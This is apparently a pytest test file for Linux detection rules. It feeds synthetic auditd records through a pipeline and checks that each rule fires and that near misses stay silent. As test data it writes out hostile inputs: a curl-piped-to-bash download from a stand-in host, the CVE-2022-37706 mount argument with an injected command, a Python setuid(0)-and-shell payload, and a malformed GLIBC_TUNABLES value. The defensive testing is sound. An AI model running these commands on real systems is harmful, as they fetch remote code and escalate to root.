"""The corpus' process-only sequences that join a program start with a process
end (exit_group), a uid change (set*uid) or an environment read in the plugin,
from audit records through the whole pipeline: for each, a stream where it
fires (the alert names its events, in order) and near misses (wrong order,
span too long, keys that differ, a condition one event misses).

Records are laid out as auditd writes them (tests/data/records/
profiles-capture.log): an exec is SYSCALL, EXECVE, CWD, PATH, PROCTITLE; a
set*id call or exit_group is SYSCALL and PROCTITLE only (no path, no CWD;
exit_group never returns: no success=, no exit=), with the ids as they are
after the call. Two rules read what only the plugin knows (process.env_vars,
session leaders: /proc); their cases run real processes and live mode."""

from __future__ import annotations

import os
import shutil
import subprocess
import time
from typing import Any, Callable, Optional

import pytest

from harness.pipelines import run
from harness.procs import stop_process, wait_for
from harness.records import call_event, exec_event, fork_event
from test_corpus_sequences_audit import BASE_MS, ancestors, rule_named
from test_corpus_sequences_audit import Stream as ExecStream

LINUX = "rules/linux/"
SETUID, SETRESUID, SETRESGID, EXIT_GROUP = 105, 117, 119, 231
LIVE = {"live": True, "parent_from_proc": True}


class Stream(ExecStream):
    """Execs, forks, id changes and process ends of one host, serials in order."""

    def __init__(self, base_ms: int = BASE_MS) -> None:
        super().__init__()
        self.base_ms = base_ms
        self.options: Optional[dict[str, Any]] = None   # pipeline options other than the case's

    def _when(self, ms: int) -> tuple[int, int]:
        self.serial += 1
        return divmod(self.base_ms + ms, 1000)

    def start(self, ms: int, pid: int, ppid: int, argv: list[str], exe: Optional[str] = None,
              uid: int = 1000, euid: Optional[int] = None, gid: int = 1000,
              cwd: str = "/home/alice") -> str:
        sec, msec = self._when(ms)
        exe = exe or f"/usr/bin/{argv[0].rsplit('/', 1)[-1]}"
        self.data += b"".join(exec_event(self.serial, argv, exe, pid=pid, ppid=ppid, sec=sec,
                                         msec=msec, uid=uid, euid=euid, gid=gid, cwd=cwd,
                                         names={0: "root", 1000: "alice"}))
        return f"{sec}.{msec:03d}:{self.serial}"

    def fork(self, ms: int, parent: int, child: int, ppid: int, exe: str) -> None:
        sec, msec = self._when(ms)
        self.data += b"".join(fork_event(self.serial, parent, child, ppid, sec, msec,
                                         uid=1000, exe=exe))

    def call(self, ms: int, syscall: int, pid: int, ppid: int, argv: list[str], exe: str,
             uid: int, gid: int = 1000, euid: Optional[int] = None,
             egid: Optional[int] = None, args: tuple[str, ...] = ("0", "0", "0", "0"),
             returned: bool = True) -> str:
        sec, msec = self._when(ms)
        self.data += b"".join(call_event(self.serial, syscall, argv, exe, pid, ppid, uid,
                                         euid=euid, gid=gid, egid=egid, args=args,
                                         returned=returned, sec=sec, msec=msec, auid=1000))
        return f"{sec}.{msec:03d}:{self.serial}"

    def setuid_root(self, ms: int, pid: int, ppid: int, argv: list[str], exe: str) -> str:
        """setuid(0) by a process whose effective uid is 0 (a set-user-ID root
        program, or one holding CAP_SETUID): every uid becomes 0."""
        return self.call(ms, SETUID, pid, ppid, argv, exe, uid=0)

    def end(self, ms: int, pid: int, ppid: int, argv: list[str], exe: str, uid: int = 1000,
            status: str = "0") -> str:
        """exit_group(status): a0 is the status, in hex."""
        return self.call(ms, EXIT_GROUP, pid, ppid, argv, exe, uid=uid, gid=uid,
                         args=(status, "e7", "3c", "7ffd0"), returned=False)


def alerts(path: str, stream: Stream, **options: Any) -> list[dict]:
    _docs, found, _pipeline = run(stream.data, rules=[rule_named(path)], **options)
    return found


Spawn = Any   # Spawner (below): starts processes, stopped when the test ends
Case = Callable[[Optional[str], Spawn], tuple[Stream, list[list[str]]]]
# name -> (rule path, builder, near misses, pipeline options)
CASES: dict[str, tuple[str, Case, tuple[str, ...], dict[str, Any]]] = {}


def case(path: str, *misses: str, **options: Any) -> Callable[[Case], Case]:
    def register(build: Case) -> Case:
        CASES[build.__name__] = (LINUX + path, build, misses,
                                 options or {"hostname": "testhost"})
        return build
    return register


SSHD = "/usr/sbin/sshd"


@case("credential_access_ssh_password_grabbing_via_strace.toml", "reversed", "late", "ssh_client")
def sshd_ends_then_strace(miss: Optional[str], _spawn: Spawn) -> tuple[Stream, list[list[str]]]:
    s = Stream()
    s.start(0, 100, 1, [SSHD, "-D"], exe=SSHD, uid=0, gid=0)
    s.fork(10, 100, 101, 1, SSHD)
    name, exe = ("ssh", "/usr/bin/ssh") if miss == "ssh_client" else ("sshd", SSHD)
    if miss == "reversed":
        strace = s.start(20, 110, 99, ["strace", "-f", "-p", "100"], uid=0, gid=0)
        end = s.end(900, 101, 100, [name], exe=exe, uid=0)
        return s, [[end, strace]]
    end = s.end(20, 101, 100, [name], exe=exe, uid=0, status="ff")
    strace = s.start(3021 if miss == "late" else 2500, 110, 99, ["strace", "-f", "-p", "100"],
                     uid=0, gid=0)
    return s, [[end, strace]]


@case("execution_payload_downloaded_by_curl_wget_and_piped_to_interpreter.toml",
      "late", "other_parent", "script_argument", "other_cwd")
def curl_piped_to_shell(miss: Optional[str], _spawn: Spawn) -> tuple[Stream, list[list[str]]]:
    """`curl http://203.0.113.7/x.sh | bash` typed in /tmp: the shell forks
    both, each execs; the interpreter reads the script from the pipe and ends."""
    s = Stream()
    s.start(0, 200, 1, ["bash"], cwd="/tmp")
    s.start(1, 210, 1, ["bash"], cwd="/tmp")
    curl = s.start(100, 201, 200, ["curl", "http://203.0.113.7/x.sh"], cwd="/tmp")
    argv = ["bash", "x.sh"] if miss == "script_argument" else ["bash"]
    shell_parent = 210 if miss == "other_parent" else 200
    s.start(101, 202, shell_parent, argv, cwd="/root" if miss == "other_cwd" else "/tmp")
    s.end(400, 201, 200, ["curl", "http://203.0.113.7/x.sh"], exe="/usr/bin/curl")
    end = s.end(1101 if miss == "late" else 900, 202, shell_parent, ["bash"], exe="/usr/bin/bash")
    return s, [[curl, end]]


ENLIGHTENMENT = "/usr/lib/x86_64-linux-gnu/enlightenment/utils/enlightenment_sys"


@case("privilege_escalation_enlightenment_window_manager.toml", "not_root", "other_parent",
      "late")
def enlightenment(miss: Optional[str], _spawn: Spawn) -> tuple[Stream, list[list[str]]]:
    """CVE-2022-37706: enlightenment_sys (set-user-ID root) mounts a path the
    user controls; the exploit then runs its payload as root."""
    s = Stream()
    s.start(0, 300, 1, ["bash"])
    s.start(1, 310, 1, ["bash"])
    mount = s.start(100, 301, 300, [ENLIGHTENMENT, "/bin/mount/", "-o",
                                    "noexec,nosuid,nodev,uid=1000", "/dev/../tmp/;/tmp/exploit",
                                    "/tmp///net"], exe=ENLIGHTENMENT, euid=0)
    parent = 310 if miss == "other_parent" else 300
    s.start(2000, 302, parent, ["/tmp/exploit"], exe="/tmp/exploit", euid=0)
    when = 5101 if miss == "late" else 2100
    if miss == "not_root":   # setresuid(1000, 1000, 1000): drops privileges
        change = s.call(when, SETRESUID, 302, parent, ["/tmp/exploit"], "/tmp/exploit", uid=1000,
                        args=("3e8", "3e8", "3e8", "0"))
    else:
        change = s.setuid_root(when, 302, parent, ["/tmp/exploit"], "/tmp/exploit")
    return s, [[mount, change]]


@case("privilege_escalation_overlayfs_local_privesc.toml", "unrelated_process",
      "inside_the_namespace", "root_unshare")
def unshare_then_uid_change(miss: Optional[str], _spawn: Spawn) -> tuple[Stream,
                                                                         list[list[str]]]:
    """GameOver(lay): in `unshare -rm`, a file gets capabilities on an
    overlay mount; run from the same shell it makes its caller root."""
    s = Stream()
    s.start(0, 400, 1, ["bash"])
    s.start(1, 410, 1, ["bash"])
    root = 0 if miss == "root_unshare" else 1000
    unshare = s.start(100, 401, 400, ["unshare", "-rm", "sh", "-c", "setcap ..."], uid=root,
                      gid=root)
    if miss == "inside_the_namespace":
        # setuid(0) inside the user namespace: the record gives init-namespace ids.
        change = s.call(500, SETUID, 402, 401, ["sh"], "/usr/bin/dash", uid=1000)
        return s, [[unshare, change]]
    parent = 410 if miss == "unrelated_process" else 400
    s.start(5000, 403, parent, ["/tmp/ovl/upper/file"], exe="/tmp/ovl/upper/file")
    change = s.setuid_root(5100, 403, parent, ["/tmp/ovl/upper/file"], "/tmp/ovl/upper/file")
    return s, [[unshare, change]]


@case("privilege_escalation_potential_privesc_via_general_sequence_child.toml",
      "sudo", "late", "forked_child")
def tmp_binary_becomes_root(miss: Optional[str], _spawn: Spawn) -> tuple[Stream,
                                                                        list[list[str]]]:
    """A set-user-ID root program in /tmp, run by a user, calls setuid(0)."""
    s = Stream()
    s.start(0, 500, 1, ["bash"])
    exe = "/usr/bin/sudo" if miss == "sudo" else "/tmp/x"
    run_ = s.start(100, 501, 500, [exe, "id"], exe=exe, euid=0)
    pid = 501
    if miss == "forked_child":     # a child of it (its own process) changes uid
        s.fork(200, 501, 502, 500, exe)
        pid = 502
    change = s.setuid_root(30_101 if miss == "late" else 9000, pid, 500, [exe, "id"], exe)
    return s, [[run_, change]]


@case("privilege_escalation_potential_privesc_via_general_sequence_parent.toml",
      "late", "other_parent", "root_parent")
def sibling_becomes_root(miss: Optional[str], _spawn: Spawn) -> tuple[Stream, list[list[str]]]:
    s = Stream()
    root = 0 if miss == "root_parent" else 1000
    s.start(0, 600, 1, ["bash"], uid=root, gid=root)
    s.start(1, 610, 1, ["bash"])
    run_ = s.start(100, 601, 600, ["/dev/shm/x"], exe="/dev/shm/x", uid=1000, gid=1000)
    parent = 610 if miss == "other_parent" else 600
    # A set-user-ID root helper outside the watched directories: not a first step itself.
    helper = "/usr/local/bin/helper"
    s.start(200, 602, parent, [helper], exe=helper, euid=0)
    change = s.setuid_root(15_101 if miss == "late" else 14_000, 602, parent, [helper], helper)
    return s, [[run_, change]]


@case("privilege_escalation_potential_privesc_via_general_sequence_parent_child.toml",
      "started_by_the_shell", "sudo")
def child_becomes_root(miss: Optional[str], _spawn: Spawn) -> tuple[Stream, list[list[str]]]:
    """/var/tmp/x (the user's) runs a set-user-ID root program that calls
    setuid(0). (A grandchild would not be a near miss: any child of
    /var/tmp/x is a first step itself, by its parent's executable.)"""
    s = Stream()
    s.start(0, 700, 1, ["bash"])
    run_ = s.start(100, 701, 700, ["/var/tmp/x"], exe="/var/tmp/x")
    parent = 700 if miss == "started_by_the_shell" else 701
    exe = "/usr/bin/sudo" if miss == "sudo" else "/var/tmp/y"
    s.fork(300, parent, 703, 1 if parent == 700 else 700, "/usr/bin/bash")
    s.start(400, 703, parent, [exe], exe=exe, euid=0)
    change = s.setuid_root(500, 703, parent, [exe], exe)
    return s, [[run_, change]]


PYTHON = "/usr/bin/python3"
PAYLOAD = "import os;os.setuid(0);os.system('/bin/sh')"


@case("privilege_escalation_suspicious_cap_setuid_python_execution.toml", "late", "refused",
      "other_process")
def python_setuid(miss: Optional[str], _spawn: Spawn) -> tuple[Stream, list[list[str]]]:
    """python3 holding cap_setuid (a file capability): os.setuid(0) succeeds."""
    s = Stream()
    s.start(0, 800, 1, ["bash"])
    python = s.start(100, 801, 800, ["python3", "-c", PAYLOAD], exe=PYTHON)
    argv = ["python3", "-c", PAYLOAD]
    if miss == "refused":   # without the capability: EPERM (and no uid change)
        sec, msec = s._when(300)
        s.data += b"".join(call_event(s.serial, SETUID, argv, PYTHON, 801, 800, 1000, gid=1000,
                                      sec=sec, msec=msec, auid=1000)).replace(
            b"success=yes exit=0", b"success=no exit=-1")
        return s, [[python]]
    if miss == "other_process":   # a python3 of the same shell, running a script
        s.start(150, 802, 800, ["python3", "/opt/tool.py"], exe=PYTHON)
        change = s.setuid_root(400, 802, 800, ["python3", "/opt/tool.py"], PYTHON)
        return s, [[python, change]]
    change = s.setuid_root(1101 if miss == "late" else 400, 801, 800, argv, PYTHON)
    return s, [[python, change]]


# -- live mode: what the plugin reads from /proc, on real processes ------------------

SLEEP = os.path.realpath(shutil.which("sleep") or "/bin/sleep")


def _runs(pid: int, exe: str, variable: bytes = b"") -> bool:
    try:
        with open(f"/proc/{pid}/environ", "rb") as f:
            return os.readlink(f"/proc/{pid}/exe") == exe and variable in f.read()
    except OSError:
        return False


def live_stream() -> Stream:
    """Records of events just made (a second ahead: /proc reads are trusted
    for processes started no later than the event)."""
    return Stream(base_ms=(int(time.time()) + 1) * 1000)


@case("privilege_escalation_looney_tunables_cve_2023_4911.toml", "four", "plain_tunable",
      "offline", **LIVE)
def looney_tunables(miss: Optional[str], spawn: Spawn) -> tuple[Stream, list[list[str]]]:
    """Five starts of one program by one parent with a malformed
    GLIBC_TUNABLES: real processes (children of this test), whose environment
    the plugin reads from /proc/PID/environ when their exec event arrives."""
    tunable = "glibc.malloc.mxfast=0" if miss == "plain_tunable" else \
        "glibc.malloc.mxfast=glibc.malloc.mxfast=A"
    procs = [spawn([SLEEP, "60"], env={"GLIBC_TUNABLES": tunable})
             for _ in range(4 if miss == "four" else 5)]
    assert all(wait_for(lambda: _runs(p.pid, SLEEP, b"GLIBC_TUNABLES"), 10) for p in procs)
    s = live_stream()
    if miss == "offline":
        s.options = {"hostname": "testhost"}    # scan: no environment in the records
    # The parent (this test's process) is read from /proc: its entity id from its start.
    runs = [s.start(300 * i, p.pid, os.getpid(), [SLEEP, "60"], exe=SLEEP)
            for i, p in enumerate(procs)]
    return s, [runs]


@case("privilege_escalation_sudo_token_via_process_injection.toml", "other_session", "offline",
      **LIVE)
def sudo_token_injection(miss: Optional[str], spawn: Spawn) -> tuple[Stream, list[list[str]]]:
    """gdb, then sudo becoming root in the same terminal session (its leader
    from /proc/PID/stat): real processes in a session of their own, standing
    for gdb and sudo (the records name their pids)."""
    leader = spawn(["sh", "-c", "sleep 60 & echo $!; sleep 60 & echo $!; wait"],
                   start_new_session=True, stdout=subprocess.PIPE)
    assert leader.stdout is not None
    gdb_pid, sudo_pid = (spawn.adopt(int(leader.stdout.readline())) for _ in range(2))
    if miss == "other_session":
        sudo_pid = spawn([SLEEP, "60"], start_new_session=True).pid
    assert wait_for(lambda: _runs(gdb_pid, SLEEP) and _runs(sudo_pid, SLEEP), 10)
    s = live_stream()
    if miss == "offline":
        s.options = {"hostname": "testhost"}
    gdb = s.start(0, gdb_pid, leader.pid, ["gdb", "-p", "4242"], exe="/usr/bin/gdb")
    sudo = s.call(9000, SETRESUID, sudo_pid, leader.pid, ["sudo", "-i"], "/usr/bin/sudo",
                  uid=0, gid=0, args=("0", "0", "0", "0"))
    return s, [[gdb, sudo]]


class Spawner:
    """Processes a case starts, stopped by PID when the test ends."""

    def __init__(self) -> None:
        self.started: list[subprocess.Popen] = []
        self.adopted: list[int] = []

    def __call__(self, argv: list[str], **popen: Any) -> subprocess.Popen:
        proc = subprocess.Popen(argv, **popen)
        self.started.append(proc)
        return proc

    def adopt(self, pid: int) -> int:
        """A grandchild (a `sleep 60` of a shell we started)."""
        self.adopted.append(pid)
        return pid

    def stop(self) -> None:
        for pid in self.adopted:
            if _runs(pid, SLEEP):
                os.kill(pid, 9)
        for proc in self.started:
            stop_process(proc)
            if proc.stdout is not None:
                proc.stdout.close()


@pytest.fixture
def spawn():  # type: ignore[no-untyped-def]
    spawner = Spawner()
    yield spawner
    spawner.stop()


def _alerts(name: str, miss: Optional[str], spawn: Spawner) -> tuple[list[dict], list[list[str]]]:
    path, build, _misses, options = CASES[name]
    stream, expected = build(miss, spawn)
    return alerts(path, stream, **(stream.options or options)), expected


def test_ten_rules_fire_from_these_records() -> None:
    assert len(CASES) == 10


@pytest.mark.parametrize("name", sorted(CASES))
def test_fires_and_names_its_events(name: str, spawn: Spawner) -> None:
    found, expected = _alerts(name, None, spawn)
    assert [ancestors(a) for a in found] == expected
    rule = rule_named(CASES[name][0])
    for alert in found:
        assert alert["rule"]["uuid"] == rule.rule_id
        assert alert["event"]["id"] == ancestors(alert)[-1]     # the last event's fields


@pytest.mark.parametrize("name,miss", [(n, m) for n in sorted(CASES) for m in CASES[n][2]])
def test_near_miss_does_not_fire(name: str, miss: str, spawn: Spawner) -> None:
    found, _expected = _alerts(name, miss, spawn)
    assert found == []
